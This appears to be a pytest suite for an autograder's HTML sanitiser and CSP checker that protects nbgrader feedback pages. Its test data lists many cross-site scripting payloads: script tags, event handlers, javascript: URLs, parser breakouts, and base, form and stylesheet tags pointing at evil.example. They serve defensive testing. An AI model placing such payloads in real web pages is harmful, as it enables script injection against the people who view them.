"""Feedback pages are opened by instructors in a browser logged into the course server: nothing a
student wrote may run there (autograder.feedback, autograder.nbgrader_settings)."""
from __future__ import annotations

import base64
import copy
import hashlib
import re

import pytest

from autograder.feedback import (CSP, CSP_META, FALLBACK_MARKER, MATHJAX_BASE, MATHJAX_CONFIG, add_csp,
                                 fallback_page, find_dangerous, page_text, secure_feedback, secure_page,
                                 url_is_safe)
from conftest import grade, make_course, needs_bwrap, needs_jupyter

CH = "ch01_attention"
LOADER = f'<script src="{MATHJAX_BASE}2.7.7/latest.js?config=TeX-AMS_CHTML-full,Safe"> </script>'
TEMPLATE_MATHJAX = LOADER + """
<script type="text/x-mathjax-config">
    init_mathjax = function() { if (window.MathJax) { MathJax.Hub.Config({}); } }
    init_mathjax();
</script>"""
PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"


def template_page(body: str, mathjax: str = TEMPLATE_MATHJAX) -> str:
    """A page shaped like nbgrader's feedback template (head from the template, ``body`` inside)."""
    return ("<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\"/>\n<title>ch01_attention</title>\n"
            "<style type=\"text/css\">body{margin:0} a>b{color:red}</style>\n"
            f"<!-- Loading mathjax macro -->\n{mathjax}\n</head>\n<body>\n<a name=\"top\"></a>\n"
            "<div class=\"container\"><h4>ch01_attention (Score: 0.0 / 8.0)</h4>\n"
            f"<div class=\"text_cell_render border-box-sizing rendered_html\">\n{body}\n</div></div>\n"
            "</body>\n</html>\n")


HONEST_BODY = f"""<h1 id="Attention">Attention<a class="anchor-link" href="#Attention">¶</a></h1>
<p>Softmax: $\\sigma(x)_i = e^{{x_i}} / \\sum_j e^{{x_j}}$, and a &lt; b &amp; c &gt; d.
<a href="https://arxiv.org/abs/1706.03762">the paper</a>, <a href="mailto:ta@example.org">mail</a>,
<a href="#softmax_tests">(Top)</a>, <code>x.softmax(-1)</code></p>
<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>
<img alt="plot" src="{PNG}" width="300">
<div class="output_subarea output_text output_error"><pre><span class="ansi-red-fg">AssertionError</span>
<span style="color: rgb(255,0,0)">softmax over the wrong axis?</span> &lt;script&gt;</pre></div>"""

# Each construct the checker must catch, as it could appear in the body of a finished page.
DANGEROUS = {
    "script": "<script>alert(1)</script>",
    "script with mathjax src in body": LOADER,
    "mathjax config in body": f"<script>{MATHJAX_CONFIG}</script>",
    "x-mathjax-config": "<script type=\"text/x-mathjax-config\">alert(1)</script>",
    "self-closed script": "<script src=\"https://evil.example/x.js\"/>",
    "img onerror": "<img src=\"x\" onerror=\"alert(1)\">",
    "img onerror unquoted": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=\"alert(1)\"></svg>",
    "svg style breakout": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe srcdoc": "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "a javascript:": "<a href=\"javascript:alert(1)\">x</a>",
    "a JavaScript: with spaces": "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
    "a entity-encoded javascript:": "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "a tab in javascript:": "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "a newline in javascript:": "<a href=\"java\nscript:alert(1)\">x</a>",
    "a vbscript:": "<a href=\"vbscript:msgbox(1)\">x</a>",
    "a data:text/html": "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    "img data:text/html": "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "img srcset javascript:": "<img srcset=\"javascript:alert(1) 1x\">",
    "meta refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "base": "<base href=\"https://evil.example/\">",
    "form action": "<form action=\"https://evil.example/\"><input name=\"q\"></form>",
    "button formaction": "<button formaction=\"javascript:alert(1)\">go</button>",
    "object": "<object data=\"https://evil.example/x.swf\"></object>",
    "embed": "<embed src=\"https://evil.example/x.swf\">",
    "style @import": "<style>@import url(https://evil.example/x.css);</style>",
    "link stylesheet": "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "style attribute url()": "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "details ontoggle": "<details open ontoggle=\"alert(1)\">x</details>",
    "custom element onfocus": "<x-y tabindex=\"1\" autofocus onfocus=\"alert(1)\">x</x-y>",
    "noscript title breakout": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "comment breakout": "<!--><img src=x onerror=alert(1)>-->",
    "bang comment close": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata breakout": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "unparsed tag": "<img\x00src=x onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template>",
}


# -- fast: the checker ---------------------------------------------------------------------------------

def test_checker_accepts_the_secured_template_page():
    page = add_csp(template_page(HONEST_BODY))
    assert find_dangerous(page) == []


def test_checker_refuses_the_template_eval_config_until_it_is_replaced():
    """The template's text/x-mathjax-config is run by MathJax with eval(): only the hash-pinned copy passes."""
    page = template_page(HONEST_BODY)
    assert find_dangerous(page) == ["a <script> element"]
    assert find_dangerous(add_csp(page)) == []


@pytest.mark.parametrize("payload", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_checker_finds_each_dangerous_construct(payload):
    assert find_dangerous(add_csp(template_page(HONEST_BODY + "\n" + payload))), payload


@pytest.mark.parametrize("head", [
    "<script src=\"https://cdnjs.cloudflare.com/ajax/libs/angular.js/1.8.2/angular.min.js\"></script>",
    f"<script src=\"{MATHJAX_BASE}2.7.7/MathJax.js\" onload=\"alert(1)\"></script>",
    f"<script src=\"{MATHJAX_BASE}2.7.7/latest.js\">alert(1)</script>",
    "<script>alert(1)</script>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<meta charset=\"iso-2022-jp\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
])
def test_checker_refuses_anything_but_the_template_scripts_in_head(head):
    assert find_dangerous(add_csp(template_page(HONEST_BODY, mathjax=TEMPLATE_MATHJAX + "\n" + head)))


def test_urls_are_judged_as_a_browser_reads_them():
    for url in ("#top", "figure.png", "../x", "//example.org/x", "https://example.org/a:b", "mailto:a@b.c",
                "HTTPS://EXAMPLE.ORG"):
        assert url_is_safe("a", "href", url), url
    assert url_is_safe("img", "src", PNG)
    assert url_is_safe("img", "src", "data:image/svg+xml;base64,PHN2Zz4=")
    for url in ("javascript:alert(1)", "\x01 javascript:alert(1)", "java\tscript:alert(1)", "JAVASCRIPT:x",
                "vbscript:x", "data:text/html,x", "file:///etc/passwd", "blob:https://x/y"):
        assert not url_is_safe("a", "href", url), url
    assert not url_is_safe("a", "href", PNG), "data: images are for <img src> only"
    assert not url_is_safe("img", "src", "data:text/html,x")


# -- fast: securing and falling back ------------------------------------------------------------------

def test_secure_page_puts_a_strict_csp_first_in_head():
    page, reasons = secure_page(template_page(HONEST_BODY))
    assert reasons == []
    assert re.search(r"<head>\s*<meta http-equiv=\"Content-Security-Policy\"", page)
    assert page.index("<meta charset") < 1024, "the charset must stay in the first 1024 bytes"
    directives = dict(d.strip().split(" ", 1) for d in CSP.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["object-src"] == directives["base-uri"] == directives["form-action"] == "'none'"
    script_src = directives["script-src"].split()
    sha = base64.b64encode(hashlib.sha256(MATHJAX_CONFIG.encode()).digest()).decode()
    assert script_src == [MATHJAX_BASE, f"'sha256-{sha}'"], "only MathJax's CDN directory and its config"
    assert "text/x-mathjax-config" not in page
    assert page.index(f"<script>{MATHJAX_CONFIG}</script>") < page.index(LOADER)
    assert secure_page(page) == (page, []), "securing twice changes nothing"


def test_dangerous_page_is_replaced_by_escaped_text():
    hostile = template_page(HONEST_BODY + "<p>my answer</p><script>alert('x')</script><img src=x onerror=alert(2)>")
    page, reasons = secure_page(hostile)
    assert FALLBACK_MARKER in page
    assert "a <script> element" in reasons and any("onerror" in r for r in reasons)
    assert find_dangerous(page) == []
    assert "<script" not in page and "<img" not in page
    assert "my answer" in page and "alert(&#x27;x&#x27;)" in page, "the text stays, escaped"
    assert secure_page(page) == (page, [])


def test_fallback_page_escapes_everything():
    evil = "</pre><script>alert(1)</script><img src=x onerror=alert(1)><!--<a href='javascript:x'>"
    page = fallback_page(evil, evil + "\n& more", [evil])
    assert find_dangerous(page) == []
    assert "<script" not in page and "<img" not in page and "<!--" not in page
    assert page_text(page)[0] == evil
    assert evil + "\n& more" in page_text(page)[1]


def test_secure_feedback_walks_every_page_of_the_assignment(tmp_path):
    ok = template_page(HONEST_BODY)
    bad = template_page("<script>alert(1)</script>")
    folder = tmp_path / "feedback" / "alice" / CH
    (folder / "sub").mkdir(parents=True)
    (folder / f"{CH}.html").write_text(ok)
    (folder / "sub" / "notes.htm").write_text(bad)
    (folder / "evil.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    (folder / "data.csv").write_text("a,b\n")
    (folder / "link.html").symlink_to(folder / f"{CH}.html")
    (folder / "latin1.html").write_bytes("<p>caf\xe9</p>".encode("latin-1"))
    other = tmp_path / "feedback" / "alice" / "ch02_masking" / "ch02_masking.html"
    other.parent.mkdir(parents=True)
    other.write_text(bad)

    notes = secure_feedback(tmp_path, CH)
    assert len(notes) == 4 and all(n.startswith(f"feedback/alice/{CH}/") for n in notes), notes
    assert CSP_META in (folder / f"{CH}.html").read_text()
    assert FALLBACK_MARKER in (folder / "sub" / "notes.htm").read_text()
    assert FALLBACK_MARKER in (folder / "latin1.html").read_text()
    assert not (folder / "evil.svg").exists() and (folder / "evil.svg.txt").exists()
    assert not (folder / "link.html").is_symlink() and not (folder / "link.html").exists()
    assert (folder / "data.csv").read_text() == "a,b\n"
    assert other.read_text() == bad, "another assignment is left alone"
    assert secure_feedback(tmp_path, CH) == []


@needs_jupyter
def test_sanitised_markdown_keeps_formatting_and_shows_markup_as_text():
    from autograder.feedback import sanitize_markdown_html

    assert sanitize_markdown_html(HONEST_BODY.split("<div class=\"output_subarea")[0]) == \
        HONEST_BODY.split("<div class=\"output_subarea")[0]
    for payload in DANGEROUS.values():
        out = sanitize_markdown_html(payload)
        assert find_dangerous(add_csp(template_page(out))) == [], (payload, out)
    assert sanitize_markdown_html("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"


@needs_jupyter
def test_generate_feedback_is_configured_to_sanitise_markdown(tmp_path):
    """What configure() gives nbgrader's GenerateFeedback, without grading anything."""
    import nbformat
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config import Config

    from autograder.nbgrader_settings import configure

    c = Config()
    configure(c, tmp_path)
    converter = GenerateFeedback(coursedir=CourseDirectory(config=c), config=c)
    exporter = converter.exporter_class(parent=converter, config=converter.config)
    assert exporter.sanitize_html
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# Title\n\nHonest *text*.\n\n<script>alert(1)</script>\n\n"
                                      "<img src=x onerror=alert(2)> [x](javascript:alert(3))"),
        nbformat.v4.new_markdown_cell("![gone](attachment:gone.png) <b onclick=alert(6)>cell</b>"),
        nbformat.v4.new_code_cell("1", outputs=[
            nbformat.v4.new_output("display_data", {"text/html": "<b>bold</b><script>alert(4)</script>"}),
            nbformat.v4.new_output("display_data", {"application/javascript": "alert(5)"})]),
    ])
    html, _ = exporter.from_notebook_node(nb, resources={"nbgrader": {
        "notebook": CH, "score": 0, "max_score": 1, "late_penalty": 0}})
    body = html[html.index("<body"):]
    assert "alert(5)" not in body, "JavaScript outputs are dropped"
    assert find_dangerous(add_csp(html)) == [], find_dangerous(add_csp(html))
    assert "<em>text</em>" in body and "<b>bold</b>" in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert "missing attachment: gone.png" in body, "a missing attachment does not lose the whole page"
    assert "![gone](attachment:gone.png) &lt;b onclick=alert(6)&gt;cell&lt;/b&gt;" in body


# -- slow: the real grading flow ------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert('quoted')>",
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<iframe srcdoc=\"<script>alert('iframe')</script>\"></iframe>",
    "<a href=\"javascript:alert('href')\">click me</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/steal\"><input name=q>"
    "<button formaction=\"javascript:alert(1)\">go</button></form>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/bg)}</style>",
    "[markdown link](javascript:alert('mdlink'))",
    "Math $<img src=x onerror=alert('math')>$ and $$<script>alert('display')</script>$$",
    "&lt;script&gt;alert('entity')&lt;/script&gt; <a href=\"&#106;avascript:alert('ent')\">ent</a> "
    "<a href=\"jav&#x09;ascript:alert('tab')\">tab</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">data link</a>",
    "![attached](attachment:evil.svg)",
    "<script type=\"text/x-mathjax-config\">alert('mathjax config')</script>",
    "<details open ontoggle=alert('toggle')>d</details>",
    "<object data=\"javascript:alert('obj')\"></object><embed src=\"javascript:alert('emb')\">",
    "<!--><img src=x onerror=alert('comment')>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
    "<svg><style><img src=x onerror=alert('svgstyle')></style></svg>",
]
HONEST = "Honest text: the softmax of x is exp(x)/sum(exp(x)); a < b & c > d."


def _hostile(nb):
    import nbformat

    nb = copy.deepcopy(nb)
    md = nbformat.v4.new_markdown_cell("\n\n".join(PAYLOADS + [HONEST]))
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
    md.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(svg).decode()}}
    raw = "<script>alert('raw')</script><img src=x onerror=alert('raw')>"
    nb.cells[1:1] = [md, nbformat.v4.new_raw_cell(raw, metadata={"format": "text/html"}),
                     nbformat.v4.new_raw_cell(raw, metadata={"raw_mimetype": "text/html"})]
    return nb


def _independent_scan(page: str) -> list[str]:
    """The brief's list of dangerous constructs, found with BeautifulSoup rather than the checker."""
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(page, "html.parser")
    csp = soup.head.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    found = []
    for tag in soup.find_all(True):
        where = "head" if tag.find_parent("head") else "body"
        if tag.name == "script":
            own = where == "head" and (
                (list(tag.attrs) == ["src"] and tag["src"].startswith(MATHJAX_BASE) and not tag.string.strip())
                or (not tag.attrs and "'sha256-" + base64.b64encode(
                    hashlib.sha256(tag.string.encode()).digest()).decode() + "'" in csp))
            if not own:
                found.append(f"script {tag.attrs} {tag.string!r}")
        if tag.name in {"iframe", "object", "embed", "base", "form", "frame", "link", "svg", "math",
                        "noscript", "textarea", "template"} or (tag.name == "style" and where == "body"):
            found.append(tag.name)
        if tag.name == "meta" and (tag.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        for attr, value in tag.attrs.items():
            value = value if isinstance(value, str) else " ".join(value)
            if attr.startswith("on") or attr in ("srcdoc", "formaction", "action"):
                found.append(f"{tag.name} {attr}")
            if attr in ("href", "src", "action", "formaction", "data"):
                v = re.sub(r"[\x00-\x20]", "", value).lower()
                if v.startswith(("javascript:", "vbscript:", "data:text/html")):
                    found.append(f"{tag.name} {attr}={value}")
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    import nbformat

    course = make_course(tmp_path_factory.mktemp("course"), chapters=[CH])
    released = nbformat.read(course / "release" / CH / f"{CH}.ipynb", as_version=4)
    for student, nb in {"hostile": _hostile(released), "blank": released}.items():
        folder = course / "submitted" / student / CH
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{CH}.ipynb")
    run = grade(course, CH)
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    # Until `python -m autograder grade` calls it itself (then this second call changes nothing).
    notes = secure_feedback(course, CH)
    pages = {s: (course / "feedback" / s / CH / f"{CH}.html").read_text() for s in ("hostile", "blank")}
    return notes, pages


@needs_jupyter
@needs_bwrap
@pytest.mark.slow
def test_hostile_markdown_is_inert_in_the_feedback_page(graded):
    from bs4 import BeautifulSoup

    notes, pages = graded
    page = pages["hostile"]
    assert notes == [], "sanitising at render time leaves nothing for the fallback to catch"
    assert FALLBACK_MARKER not in page, "the page keeps nbgrader's layout"
    soup = BeautifulSoup(page, "html.parser")
    first = soup.head.find(True)
    assert first.name == "meta" and first["http-equiv"] == "Content-Security-Policy" and first["content"] == CSP
    assert _independent_scan(page) == []
    assert find_dangerous(page) == []
    text = soup.body.get_text()
    assert HONEST in text
    for visible in ("<script>alert('script')</script>", "<img src=x onerror=alert(1)>", "click me",
                    "markdown link", "<base href=\"https://evil.example/\">", "data link",
                    "<script>alert('raw')</script>"):
        assert visible in text, f"{visible!r} should be shown as text"


@needs_jupyter
@needs_bwrap
@pytest.mark.slow
def test_untouched_release_keeps_its_layout_and_mathjax(graded):
    page = graded[1]["blank"]
    assert FALLBACK_MARKER not in page and CSP_META in page
    assert _independent_scan(page) == [] and find_dangerous(page) == []
    assert f"<script>{MATHJAX_CONFIG}</script>" in page and f'<script src="{MATHJAX_BASE}' in page
    assert "text/x-mathjax-config" not in page
    assert "Test cell" in page and "softmax" in page


def test_a_huge_code_cell_is_clipped_in_the_feedback_page():
    """Highlighting is what makes a page slow: a 400 000-character attribute chain took 80 s to
    export and made a 10 MB page. The page shows its start and says what was left out."""
    import nbformat

    from autograder.feedback import FEEDBACK_SOURCE_CHARS, feedback_exporter

    chain = "x = torch" + ".T" * 200_000
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(chain), nbformat.v4.new_code_cell("y = 1")])
    exporter = feedback_exporter()()
    exporter.sanitize_html = True
    page, _ = exporter.from_notebook_node(nb)
    assert "characters of this cell are not shown in the feedback page" in page
    assert len(page) < 40 * FEEDBACK_SOURCE_CHARS and "y</span>" in page
